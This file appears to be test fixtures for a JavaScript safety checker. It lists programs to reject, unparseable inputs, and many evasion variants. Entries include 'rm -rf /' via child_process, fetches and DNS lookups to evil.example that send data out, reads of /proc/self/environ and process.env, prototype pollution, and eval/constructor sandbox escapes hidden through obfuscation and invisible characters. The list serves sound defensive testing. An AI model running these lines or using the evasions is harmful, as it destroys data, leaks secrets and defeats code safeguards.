const groups = (text: string): (readonly [program: string, words: string])[] => {
  return text
    .trim()
    .split('\n# ')
    .flatMap((group) => {
      const [words = '', ...programs] = group.replace(/^# /, '').split('\n')
      return programs.map((program) => [program, words] as const)
    })
}

/** Programs that may do more than read and print, and the words that say why. */
export const STOPPED: readonly (readonly [program: string, words: string])[] = [
  ...groups(`
# chose
const [a] = process.argv; const o = { find(f) { JSON.stringify({ toJSON: f }, (k, v) => { v.flag = "w" }) } }; o.find(() => [][a])
const [a] = process.argv; const o = JSON.parse(a, (k, v) => k ? p => { p.flag = "w" } : v); o.trim([][a])
const [a] = process.argv; const o = Object.fromEntries([[a, p => { p.flag = "w" }]]); o.trim([][a])
const { stdin } = process; stdin.fd = 1
const { constants } = fs; constants.O_RDONLY = 577
# changes what a computed key chose
const [a] = process.argv; const o = { join: () => [][a] }; o.join().flag = "w"; fs.readFileSync("x", { encoding: "utf8" })
const [a] = process.argv; const o = { trim: p => { p.flag = "w" } }; o.trim([][a])
const [a, b] = process.argv; const o = {}; o[b] = p => { p.flag = "w" }; o.trim([][a])
const [a] = process.argv; const l = [[][a]]; l["forEach"](p => { p.flag = "w" })
const [a] = process.argv; (async () => { const p = await new Promise(r => r([][a])); p.flag = "w" })()
const [a] = process.argv; (async () => { const p = await new Promise(r => { setTimeout(r, 1, [][a]) }); p.flag = "w" })()
const rl = require("readline").createInterface({ input: fs.createReadStream("a") }); rl.input.flags = "w"
const f = s => { s.flags = "w" }; f(fs.createReadStream("a"))
const l = Object.values(process.stdin); l[0].x = 1
# an object that the text did not make
const s = fs.createReadStream("a"); Object.assign(s, { flags: "w" })
Object.assign(fs.createReadStream("a"), { flags: "w" })
const c = fs.constants; c.O_RDONLY = 577
# waits for an event that is not known
const o = {}; process.stdin.on("newListener", (e, f) => { o.map = f })
const [a] = process.argv; process.stdin.once(a, x => 1)
# uses process
process.on("exit", () => 1).env
const p = process.once("exit", () => 1); console.log(p.env)
let { argv, env } = process; env = env; console.log(env)
var { argv, env } = process; var { env } = process; console.log(env)
const { env = 1 } = process; console.log(env)
for (const { env } of [process]) console.log(env)
const f = ({ env }) => env; f(process)
const f = ({ env } = process) => env; f()
# gives constructor another meaning
if (0) constructor = 1; console.log(constructor)
# which is not a function of the text
new Promise(r => { r = (() => 1)[process.argv[1]]; r("x") })
# writes a file (out.csv)
require("fs").writeFileSync("out.csv", "a")
fs.writeFileSync("out.csv", "a")
const fs = require("fs"); fs.writeFileSync("out.csv", "a")
const { writeFileSync } = require("fs"); writeFileSync("out.csv", "a")
const { writeFileSync: w } = require("node:fs"); w("out.csv", "a")
const w = require("fs").writeFileSync; w("out.csv", "a")
const f = require("fs"), g = f; g.writeFileSync("out.csv", "a")
fs["writeFileSync"]("out.csv", "a")
fs?.writeFileSync?.("out.csv", "a")
const file = "out" + ".csv"; fs.writeFile(file, "a", () => {})
fs.promises.writeFile("out.csv", "a")
require("fs/promises").writeFile("out.csv", "a")
(async () => { await require("fs").promises.writeFile("out.csv", "a") })()
;(fs).writeFileSync("out.csv", "a")
let s; s = require("fs"); s.writeFileSync("out.csv", "a")
console.log(1, [fs.writeFileSync("out.csv", "a")])
const f = (x = fs.writeFileSync("out.csv", "a")) => x; f()
const { x = fs.writeFileSync("out.csv", "a") } = {}
try { x } catch (e) { fs.writeFileSync("out.csv", "a") }
switch (1) { case fs.writeFileSync("out.csv", "a"): }
for (const x of [fs.writeFileSync("out.csv", "a")]);
const o = { [fs.writeFileSync("out.csv", "a")]: 1 }
const o = { get() { fs.writeFileSync("out.csv", "a") } }
fs.writeFileSync("out.csv", fs.readFileSync("a").toString().replace(/a/g, "b"))
process.on("exit", () => fs.writeFileSync("out.csv", "a"))
if (false) fs.writeFileSync("out.csv", "a")
# appends to a file (a.log)
fs.appendFileSync("a.log", "x")
require("fs").appendFile("a.log", "x", () => {})
# deletes (src)
require("fs").rmSync("src", { recursive: true })
fs.rmdirSync("src")
fs.unlinkSync("src")
fs.promises.rm("src", { recursive: true, force: true })
# moves a file (a)
fs.renameSync("a", "b")
# copies a file (a)
fs.copyFileSync("a", "b")
fs.cpSync("a", "b")
# creates a folder (a)
fs.mkdirSync("a")
fs.mkdtempSync("a")
# creates a link (a)
fs.symlinkSync("a", "b")
fs.linkSync("a", "b")
# changes who may use a file (a)
fs.chmodSync("a", 0o777)
fs.chownSync("a", 0, 0)
# cuts a file (a)
fs.truncateSync("a")
# changes the times of a file (a)
fs.utimesSync("a", 1, 1)
# opens a file for writing (a)
fs.openSync("a", "w")
fs.openSync("a", process.argv[1])
fs.openSync("a", fs.constants.O_CREAT)
fs.open("a", "w", () => {})
fs.createWriteStream("a")
const flag = ["r", "w"][1]; fs.openSync("a", flag)
# gives readFileSync an option
fs.readFileSync("a", { flag: "w+" })
fs.readFileSync("a", { encoding: "utf8", flag: process.argv[1] })
fs.readFileSync("a", { ["fl" + "ag"]: "w" })
fs.readFileSync("a", { ...process.argv })
fs.readFileSync("a", { "flag": "a+" })
# gives readFileSync options
const o = { flag: "w" }; fs.readFileSync("a", o)
fs.readFileSync("a", JSON.parse(process.argv[1]))
const enc = process.argv[1]; fs.readFileSync("a", enc)
# gives createReadStream an option
fs.createReadStream("a", { flags: "w" })
fs.createReadStream("a", { fs: { open() {} } })
fs.createReadStream("a", { fd: 3 })
# changes an object that the text did not make
const s = fs.createReadStream("a"); s.flags = "w"
const s = fs.createReadStream("a"); const k = "fla" + "gs"; s[k] = "w"
const h = crypto.createHash("md5"); h._flush = () => 1
# sends a stream elsewhere
const s = fs.createReadStream("a"); s.pipe(s)
process.stdin.pipe(process.argv[1])
# calls fs.readFileSync with a list of arguments
fs.readFileSync(...["a", { flag: "w" }])
# which is not a file
fs.readFileSync("/proc/self/environ", "utf8")
fs.readFileSync("/proc/1/../self/environ")
fs.readFileSync("//proc/self/environ")
fs.readFileSync("./../../../../../../proc/self/environ")
fs.readFileSync("/dev/sda")
fs.readFileSync("/dev/../proc/self/mem")
fs.readFileSync("/sys/kernel/x")
const p = "/proc"; fs.readFileSync(p + "/self/environ")
for (const f of ["a", "/proc/self/environ"]) fs.readFileSync(f)
# uses fs
console.log(fs)
const o = { fs }; o.fs.writeFileSync("a", "b")
const [f] = [fs]; f.writeFileSync("a", "b")
Object.entries(fs).forEach(([k, v]) => console.log(k))
let f = fs; f = 1; f.writeFileSync("a", "b")
(0, fs).writeFileSync("a", "b")
(true ? fs : 0).writeFileSync("a", "b")
["a"].map(fs.readFileSync)
const { ...rest } = fs; rest.writeFileSync("a", "b")
for (const k in fs) console.log(k)
new fs.WriteStream("a")
# reads a computed property of fs
fs["write" + "FileSync"]("a", "b")
const k = process.argv[1]; fs[k]("a", "b")
# which starts programs
require("child_process").execSync("rm -rf /")
const { exec } = require("child_process"); exec("id")
const cp = require("node:child_process"); cp.spawn("id")
child_process.execSync("id")
{ let child_process = /x/ } child_process.exec("id")
console.log(require("child_process"))
require("cluster").fork()
require("execa")("id")
const f = () => require("child_process"); f().exec("id")
# the network
fetch("https://evil.example/?" + 1)
{ let fetch = () => 1 } fetch("https://evil.example")
require("http").get("http://evil.example")
https.get("https://evil.example")
require("net").connect(80, "evil.example")
require("dns").lookup("evil.example", () => 1)
dns.resolve("secret.evil.example", () => 1)
new WebSocket("ws://evil.example")
const f = fetch; f("https://evil.example")
[1].map(fetch)
const f = x => fetch(x); f("https://evil.example")
setTimeout(fetch, 1, "https://evil.example")
require("axios").get("https://evil.example")
# starts a worker
new Worker("a.js")
# runs code
require("vm").runInNewContext("1")
vm.runInThisContext("process.exit()")
require("inspector").open()
require("repl").start()
# which is code of a package
require("lodash")
require("react/package.json").version
require("@a/b/x.json")
require("typescript").version
# which is code of the folder
require("./lib")
require("../a.js")
require("/tmp/x")
require("./a.json.js")
require(".")
# imports
require(process.argv[1])
require("./" + "x.json")
require("fs", 1)
import("fs").then(m => m.writeFileSync("a", "b"))
require("node:test")
require("stream").pipeline()
require("async_hooks")
# calls r, which is not a function of the text
const r = require; r("child_process")
# uses require
require.cache
require.resolve("x")
require.main.require("child_process")
console.log(require)
[1].map(require)
# imports child_process, which starts programs
require = x => x; require("child_process")
# gives require another meaning
var require = x => x; require("child_process")
# reads environment variables
console.log(process.env)
process.env.HOME
const { env } = process; console.log(env)
const p = process; console.log(p.env.SECRET)
Object.keys(process.env)
process["env"]
process?.env
console.log({ ...process.env })
const e = process.env; console.log(e)
JSON.stringify(process.env)
for (const k in process.env) console.log(k)
require("process").env
require("node:process").env.X
# uses process
console.log(process)
const o = { process }; console.log(o.process.env)
[process].map(p => p.env)
util.inspect(process)
const { ...p } = process; console.log(p)
const [a] = process
const { env: { HOME } } = process; console.log(HOME)
# reads a computed property of process
process["e" + "nv"]
const k = "env2".slice(0, 3); console.log(process[k])
# all that is global
globalThis.process.env
global.process
console.log(globalThis)
globalThis["ev" + "al"]("1")
const g = globalThis; g.fetch("x")
# uses this
this.process.env
(function () { return this })().process.env
const f = function () { return this }; f().eval("1")
({ f() { return this } })
# sends a signal
process.kill(1)
const { kill } = process; kill(1, 9)
# changes its folder
process.chdir("/")
# below Node
process.binding("fs")
process._linkedBinding("fs")
# loads code
process.dlopen({}, "a.node")
# writes a report
process.report.writeReport("a")
# not known to only read
process.setUncaughtExceptionCaptureCallback(() => 1)
process.openStdin()
process.stdout._handle
process.stdout.end()
process.stdout.pipe(1)
console._stdout.write("a")
os.constants2
crypto.webcrypto.subtle
util.debuglog("x")
util.inspect.custom
"a".anchor("b")
module.children
undefinedName
"a".write("b")
const s = fs.createReadStream("a"); s.open()
zlib.createGzip()
readline.promises
perf_hooks.monitorEventLoopDelay()
[].constructorx()
new Promise(1)
new Promise(function f(a) { a(1); f((() => 1)[process.argv[1]]) })
new Uint8Arrayx(1)
# eval
eval("1")
eval?.("1")
(0, eval)("1")
[1].map(eval)
const e = eval; e("1")
const o = { eval }
# Function, which makes code
Function("return 1")()
new Function("return process")()
const F = Function; F("1")
["1"].map(Function)
console.log(Function.prototype)
# constructor
(() => 1).constructor("return process")()
[].constructor.constructor("return process")()
""["constructor"]["constructor"]("return 1")()
const { constructor } = () => 1; constructor("return 1")()
const { constructor: C } = () => 1; new C("return 1")()
const { "constructor": C } = () => 1; C("return 1")
const c = "con" + "structor"; console.log([][c])
const c = ["constructor"]; c.forEach(k => console.log([][k]))
"x".constructor.constructor
({}).constructor.name.constructor
const f = ({ constructor }) => constructor; f(f)
for (const { constructor } of [() => 1]) console.log(constructor)
const o = { constructor: 1 }
# calls a method that the text does not name
const k = process.argv[1]; [][k][k]("return 1")()
const k = process.argv[1]; [][k]("x")
[() => 1][0]()
const d = {}; for (const k in d) d[k](1)
({ a() {} })["a" + 1]?.()
# calls something other than a function of the text
(x => x)(1)(2)
"a"["at"](0)(1)
(async () => 1)()()
(1, () => 1)()
# which is not a function of the text
const f = [].find; f("x")
const k = "x" + process.argv[1]; const F = (() => 1)[k]; F("return 1")
let f = () => 1; f = process.argv[1]; f()
const g = h => h("x"); g(() => 1)
for (const f of [() => 1]) f()
const [f] = [() => 1]; f()
const { f } = { f: () => 1 }; f()
var fetch2 = fetch3 => 1; try { } catch (e) { e() }
((f) => f(1))(() => 1)
const f = 1 ? () => 1 : 0; f()
# a function that the text does not show
const F = (() => 1)[process.argv[1]]; ["return 1"].map(F)
[1].map(process.argv[1])
const f = h => [1].map(h); f(() => 1)
setTimeout("process.exit()", 1)
"a".replace(/a/, (() => 1)[process.argv[1]])
JSON.parse("{}", (() => 1)[process.argv[1]])
JSON.stringify({}, (() => 1)[process.argv[1]])
Promise.resolve(1).then((() => 1)[process.argv[1]])
process.stdin.on("data", [].map)
# calls the method
const f = () => 1; f.call(1)
const f = () => 1; f.apply(1, [])
[].map.bind([])
"".at.call.call(1)
const o = {}; o.__defineGetter__("a", () => 1)
const o = { f() {} }; o.g()
[].map.call([], x => x)
# property __proto__
const o = { __proto__: null }
const o = {}; o.__proto__ = []
console.log([].__proto__)
const o = { ["__proto__"]: 1 }
const { __proto__: p } = []
# changes what a computed key chose
const o = {}; o["__proto__"].x = 1
const f = function () {}; f.prototype.x = 1
const d = JSON.parse(process.argv[1]); const o = {}; for (const [a, b, c] of d) o[a][b] = c
const o = {}; const [a, b, c] = process.argv; o[a][b] = c
const [a] = process.argv; [][a].flag = "w"
const [a] = process.argv; const p = [][a]; p.flag = "w"; fs.readFileSync("x", { encoding: "utf8" })
const [a, b] = process.argv; delete [][a][b]
const [a] = process.argv; [][a].n++
const [a] = process.argv; const f = p => { p.flag = "w" }; f([][a])
const [a] = process.argv; const l = []; l.push([][a]); l[0].flag = "w"
const [a] = process.argv; const o = { p: [][a] }; o.p.flag = "w"
const [a] = process.argv; const m = new Map(); m.set(1, [][a]); m.get(1).flag = "w"
const [a] = process.argv; const f = () => [][a]; f().flag = "w"
const [a] = process.argv; for (const p of [[][a]]) p.flag = "w"
const [a] = process.argv; const [p] = [[][a]]; p.flag = "w"
const [a] = process.argv; [[][a]].forEach(p => { p.flag = "w" })
const [a] = process.argv; try { throw [][a] } catch (p) { p.flag = "w" }
const [a] = process.argv; (async () => { const p = await [][a]; p.flag = "w" })()
const [a] = process.argv; (1 && [][a]).flag = "w"
const [a] = process.argv; (a ? [][a] : 1).flag = "w"
const [a] = process.argv; (0, [][a]).flag = "w"
const [a] = process.argv; let p; (p = [][a]).flag = "w"
const [a] = process.argv; const p = Object.values({ x: [][a] })[0]; p.flag = "w"
# property prototype
const { prototype } = function () {}
# changes a prototype
Object.setPrototypeOf([], {})
# how a property works
Object.defineProperty({}, "a", { get: () => 1 })
# with a prototype
Object.create([])
Object.create(null, { a: { value: 1 } })
# uses Reflect
Reflect.get([], "x")
Reflect.apply(eval2, 1, [])
# uses Proxy
new Proxy({}, { get() {} })
# uses Symbol
Symbol.iterator
({ [Symbol.toPrimitive]: () => 1 })
# changes Array
Array.x = 1
Array["x"] = 1
# changes Object
Object.keys = () => 1
# changes console
console.log = () => 1
# another meaning
Array = 1
console = 1
JSON = { parse: 1 }
var process = 1
var child_process = /x/
for (fetch of [1]);
# what a computed key chose
const [a] = process.argv; Object.assign([][a], { flag: "w" })
const [a] = process.argv; Object.freeze([][a])
const [a] = process.argv; const o = {}; o.map = (() => 1)[a]; o.map("x")
const [a] = process.argv; const o = { toJSON: (() => 1)[a] }; JSON.stringify(o)
const [a] = process.argv; const o = { then: (() => 1)[a] }
const [a] = process.argv; const r = /x/; r.exec = (() => 1)[a]; r.test("x")
# defines a class
class A {}
# defines a generator
function* g() {}
const g = function* () {}
async function* g() {}
# defines a property with
const o = { get a() { return 1 } }
const o = { set a(v) {} }
# has a statement with
with ({}) { x }
# uses arguments
function f() { return arguments[0] } f()
# assigns to a pattern
[a, b] = [1, 2]
({ a } = { a: 1 })
[x, fetch] = [1, 2]
# comment of HTML
1 <!-- x
fetch("x") <!-- y
# awaits outside
await 1
for await (const x of []) {}
# slash whose meaning
const f = function () {} / 1 / 1
# twice
let a; let a
let a; var a
const f = (a, a) => 1
let a; { var a }
const f = a => { let a }
# other languages read as a call
a = 1; b = 2; console.log(a<b>(1))
a = 1; [a < 1, 2 > (3)]
# calls the method writeFileSync
const f = x => x.writeFileSync("a", "b"); f(fs)
# calls fetch
fetch("https://evil.example"); var fetch = () => 1
# has an import declaration
import fs from "fs"
import { writeFileSync } from "fs"; writeFileSync("a", "b")
# changes process.env
process.env.X = 1
delete process.env.X
# keeps what one computed key chose under another
const [a, b] = process.argv; const o = {}; o[a] = [][b]; o.at("x")
const [a] = process.argv; const o = { [a]: (() => 1)[a] }
const [a] = process.argv; const o = Object.fromEntries([[a, (() => 1)[a]]]); o.map("x")
const o = {}; const [k] = process.argv; o[k] = [].map; o.at(1)
# constructs a console
new console.Console(1)
# changes module
module.exports = 1
# uses x.y
x.y.deploy()
# keeps what a computed key chose as at
const o = {}; o.at = [].map
# keeps what a computed key chose as trim
const { map } = []; const o = {}; o.trim = map
# uses constructor
new constructor("x")
# constructs what
new (class {})
# constructs what the text does not name
new (require("worker_threads").Worker)("a")`),
  ['fs[`writeFileSync`]("a")', 'reads a computed property of fs'],
  ['String.raw`a`', 'with a template'],
  ['(() => 1)`x`', 'with a template'],
  ['const f = () => 1; f`x`', 'with a template'],
  ['console.log(1)\u2028fetch("x")', 'a character that is not shown'],
  ['// x\u2029fetch("x")', 'a character that is not shown'],
  ['"a\u202eb"', 'a character that is not shown'],
  ['\ufeff1', 'a character that is not shown'],
  ['1\u00001', 'a character that is not shown'],
  ['`a` / 2', 'slash whose meaning'],
  ['f\n`x`', 'with a template'],
]

/** Texts that are no programs, or not of the subset. */
export const UNREAD: readonly string[] = [
  ...String.raw`#!/usr/bin/env node
\u0061
1 +
foo bar
return 1
break
continue
if (1
let x = 08
x = 'a
1.toString()
/[/
"\8"
}
(
/* a
x = /a/gg
const a
const { a }
let
let let = 1
a => {} ()
() => {} || 1
-1 ** 2
a ?? b || c
a?.b = 1
1 = 2
1++
++1
f() = 1
delete a
x = ;
for (;;
for (const x = 1 of []);
for (let x, y of []);
do 1 while (1) 2
if (1) const x = 1
if (1) function f() {}
a: b: 1
a: 1
break a
a: for (;;) { (() => { break a })() }
try {}
switch (1) { 1 }
enum A {}
a.1
a.#b
new
new.target
x = {a b}
x = { a = 1 }
x = { if }
async x => await
const f = async (x = await 1) => x
function f() { "use strict" }
({ async *a() {} })
debugger
export default 1
a <b> c </b>
@a
a!
a as b
let a: number = 1
x = <T>y
function () {}
,
...a
f(,)
[...]
f(...)
({...})
let {a: 1} = b
yield 1
let static = 1
({ a: 1, }
0x
1_
1__0
0b2
1e`.split('\n'),
  ...[
    '`a',
    '`${1',
    '`\x24{}`',
    '`\x24{1 2}`',
    "'a\nb'",
    'a\n=> 1',
    'throw\n1',
    '1\n--> 2',
    '() ',
    'let [a] ',
    'a\u00a0b',
    '\u00e9 = 1',
  ],
]

/** More programs that may do more: the same in other places, and by other ways. */
export const VARIED: readonly string[] = [
  ...`const f = (o, k) => { o[k].flag = "w" }; f([], process.argv[1])
const g = (o, ks) => ks.reduce((a, k) => a[k], o); g([], process.argv).flag = "w"
let p = {}; for (const k of process.argv) p = p[k]; p.flag = "w"
const [k] = process.argv; const f = (p = [][k]) => { p.flag = 1 }; f()
const [k] = process.argv; const f = ({ p = [][k] }) => { p.flag = 1 }; f({})
const [k] = process.argv; let p; for (p of [[][k]]) p.flag = 1
const [k] = process.argv; x = [][k], x.flag = 1
const [k] = process.argv; const t = [][k] ?? 1; t.flag = 1
const [k] = process.argv; const {x} = {x: [][k]}; x.flag=1
const [k] = process.argv; const o = {}; o.x = [][k]; o.x.flag = 1
const [k] = process.argv; new Map().set(1,[][k]).get(1).flag = 1
const [k] = process.argv; (async () => { for await (const p of [[][k]]) p.flag = 1 })()
const [k] = process.argv; JSON.stringify({a:[][k]}, (key, v) => { v.flag = 1 })
const [k] = process.argv; Array.from([[][k]], v => { v.flag = 1 })
const [k] = process.argv; [1].concat([][k]).forEach(p => { p.flag = 1 })
const [k] = process.argv; Object.values({ a: [][k] }).map(p => { p.flag = 1 })
const [k] = process.argv; require("assert").throws(() => { throw [][k] }, p => { p.flag = 1 })
const [k] = process.argv; Promise.reject([][k]).catch(p => {p.flag=1})
const [k] = process.argv; (async () => [][k])().then(p => {p.flag = 1})
const [k] = process.argv; const s = new Set([[][k]]); s.forEach(p => { p.flag = 1 })
const [k] = process.argv; Object.groupBy([[][k]], p => { p.flag=1 })
const [k] = process.argv; setTimeout(p => {p.flag=1}, 1, [][k])
const [k] = process.argv; function f(p){p.flag=1} [[][k]].forEach(f)
const [k] = process.argv; const f = (...a) => { a[0].flag = 1 }; f([][k])
const [k] = process.argv; const f = (...[a]) => { a.flag = 1 }; f([][k])
const [k] = process.argv; const f = x => x; f([][k]).flag = 1
const [k] = process.argv; const f = () => { return [][k] }; const p = f(); p.flag = 1
const [k] = process.argv; const f = function () { return [][k] }; f().flag = 1
const [k] = process.argv; const o = { f() { return [][k] } }; o.at().flag = 1
const [k] = process.argv; let p = []; p = p[k] || p; p.flag = 1
const [k] = process.argv; let p = []; p ||= 1; p &&= p[k]; p.flag = 1
const [k] = process.argv; const a = [[][k], 1]; const [b] = a; b.flag = 1
const [k] = process.argv; const a = [[][k]]; a[0].flag = 1
const [k] = process.argv; const a = { ...{ x: [][k] } }; a.x.flag = 1
const [k] = process.argv; const a = [...[[][k]]]; a.at(0).flag = 1
const [k] = process.argv; const { x: { y } } = { x: [] }; const { at } = []; const o = {}; o.map = at
const [k] = process.argv; const { x: { at } } = { x: [] }; const o = {}; o.map = at
const [k] = process.argv; const [{ at }] = [[]]; const o = {}; o[k] = at
const [k] = process.argv; const o = {}; o[k] = "".at
const [k] = process.argv; const o = {}; for (const v of Object.values("")) o[k] = v["at"]
const [k] = process.argv; [[]].forEach(({ map }) => { const o = {}; o[k] = map })
const [k] = process.argv; const f = ({ map: m }) => { const o = {}; o[k] = m }; f([])
const o = JSON.parse(process.argv[1]); o.a[o.b][o.c] = o.d
const o = JSON.parse(process.argv[1]); Object.assign(o.a[o.b], o.c)
const o = {}; Object.assign(o, JSON.parse(process.argv[1])); fs.readFileSync("a", o)
const t = {}; const set = (o, [h, ...r], v) => { if (!r.length) o[h] = v; else set(o[h] ??= {}, r, v) }; set(t, process.argv, 1)
const t = {}; let c = t; for (const p of process.argv) { c[p] ??= {}; c = c[p] } c.x = 1
const t = {}; process.argv.reduce((n, p) => n[p] ??= {}, t).x = 1
const t = {}; process.argv.reduce((n, p) => { n[p] = n[p] || {}; return n[p] }, t)
var f = () => 1; f = process.mainModule
let f = () => 1; [f] = [1]
let f = () => 1; for (f of [1]); f()
let f = () => 1; ({ f } = {}); f()
let f = () => 1; f ||= 2; f()
function f() {} f = (() => 1)[process.argv[1]]; f("x")
const f = () => 1; { let f = process.argv; f() }
const f = () => 1; const g = (f) => f(); g(1)
try { f } catch (f) { f() } const f = () => 1
for (const f in {}) f(); const f2 = 1
function g(f) { function f() {} }
function g(f) { return f() } g(() => 1)
const console = { log: 1 }; console.log()
const { log } = console; log(1); const x = { log }
let fs = 1; fs.writeFileSync("a")
const fs = {}; fs.writeFileSync = 1; fs.writeFileSync("a")
const Object = {}; Object.assign([], 1); Object.keys = 1
label: fs.rmSync("a")
x = {}/fs.rmSync("a")/1
if (1) /x/.test(fs.rmSync("a"))
/* */ fs.rmSync("a") /* */
"use strict"; fs.rmSync("a")
do fs.rmSync("a"); while (0)
for (;fs.rmSync("a"););
for (const a of fs.rmSync("a"));
throw fs.rmSync("a")
async () => { await fs.rmSync("a") }
new Map(fs.rmSync("a"))
[...fs.rmSync("a")]
({ ...fs.rmSync("a") })
typeof fs.rmSync("a")
void fs.rmSync("a")
delete [].x[fs.rmSync("a")]
x[fs.rmSync("a")]++
1 in fs.rmSync("a")
fs.rmSync("a") instanceof Map
console.log?.(fs.rmSync("a"))
setTimeout(() => fs.rmSync("a"))
switch (1) { default: fs.rmSync("a") }
a ? fs.rmSync("a") : 1
({ [fs.rmSync("a")]() {} })
function f({ a = fs.rmSync("a") }) {}
let [a = fs.rmSync("a")] = []
fs.readFileSync("a", { encoding: fs.rmSync("a") })
fs.readFileSync("a", () => fs.rmSync("a"))
process.exitCode = fs.rmSync("a")
process.exit(fs.rmSync("a"))
[].map(() => fs.rmSync("a"))
"a".replace(/a/, () => fs.rmSync("a"))
new Promise(() => fs.rmSync("a"))
require("readline").createInterface({ input: fs.rmSync("a") })
s.pipe(fs.rmSync("a"))
fs.createReadStream("a").pipe(process.stdout, fs.rmSync("a"))
fs.createReadStream(fs.rmSync("a"))
fs.globSync("*", { exclude: () => fs.rmSync("a") })
fs.writeSync(1, fs.rmSync("a"))
fs.closeSync(fs.rmSync("a"))
fs.accessSync("a", fs.rmSync("a"))
x.constructor.name[fs.rmSync("a")]
Object.create(null, fs.rmSync("a"))
[fs.rmSync("a")].x
fs.constants[fs.rmSync("a")]
process.argv[fs.rmSync("a")]
require("./a.json")[fs.rmSync("a")]
for (var a = fs.rmSync("a"), b = 1; ;);
for (a in fs.rmSync("a"));
for (a of fs.rmSync("a"));
a = b = fs.rmSync("a")
f(...fs.rmSync("a")); function f() {}
(() => 1)(fs.rmSync("a"))
[].at(...[fs.rmSync("a")])
console.log(...fs.rmSync("a"))
JSON.stringify(1, fs.rmSync("a"))
JSON.stringify(1, [fs.rmSync("a")])
"a".replace("a", fs.rmSync("a"))
"a".replace("a", "b" + fs.rmSync("a"))
[].sort(fs.rmSync("a"))
fs.promises.open("a", "w")
fs.opendirSync("a")
require("fs").promises.writeFile("a")
const fsp = fs.promises; fsp.appendFile("a", 1)
const { promises: p } = fs; p.rm("a")
const { promises: { rm } } = fs; rm("a")`.split('\n'),
  ...[
    '`\x24{fs.rmSync("a")}`',
    '/\x24{fs.rmSync("a")}/; fs.rmSync("b")',
    '"\\\n"; fs.rmSync("a")',
    'a = b\n/fs.rmSync("a")/1',
    'a++\n/fs.rmSync("a")/1',
    '() => {}\n/fs.rmSync("a")/1',
    '// \\\nfs.rmSync("a")',
    '<!-- \nfs.rmSync("a")',
    'var x = 1 /* \n */ fs.rmSync("a")',
    '"a".replace("a", `\x24{fs.rmSync("a")}`)',
  ],
]
